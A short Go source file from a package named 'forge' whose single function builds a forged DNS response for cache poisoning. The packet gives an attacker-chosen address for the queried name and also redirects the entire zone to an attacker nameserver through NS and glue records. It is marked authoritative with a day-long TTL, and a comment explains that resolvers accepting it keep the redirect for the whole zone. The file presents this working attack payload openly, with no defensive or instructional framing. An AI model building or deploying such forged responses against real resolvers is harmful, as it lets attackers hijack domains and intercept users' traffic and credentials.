package forge

import (
	"net/netip"

	"github.com/miekg/dns"
)

// Reply is the forged answer to "name A" in zone: name A evil, and a
// redirect of zone to ns.zone at evil (authority NS + additional glue),
// all with a day's TTL, authoritative. A resolver that takes it holds
// evil for the name and, if it keeps the redirect, for the whole zone.
func Reply(name, zone string, evil netip.Addr) ([]byte, error) {
	m := new(dns.Msg)
	m.SetQuestion(dns.Fqdn(name), dns.TypeA)
	m.Response, m.Authoritative = true, true
	hdr := func(owner string, t uint16) dns.RR_Header {
		return dns.RR_Header{Name: owner, Rrtype: t, Class: dns.ClassINET, Ttl: 86400}
	}
	ns := "ns." + dns.Fqdn(zone)
	m.Answer = []dns.RR{&dns.A{Hdr: hdr(dns.Fqdn(name), dns.TypeA), A: evil.AsSlice()}}
	m.Ns = []dns.RR{&dns.NS{Hdr: hdr(dns.Fqdn(zone), dns.TypeNS), Ns: ns}}
	m.Extra = []dns.RR{&dns.A{Hdr: hdr(ns, dns.TypeA), A: evil.AsSlice()}}
	return m.Pack()
}
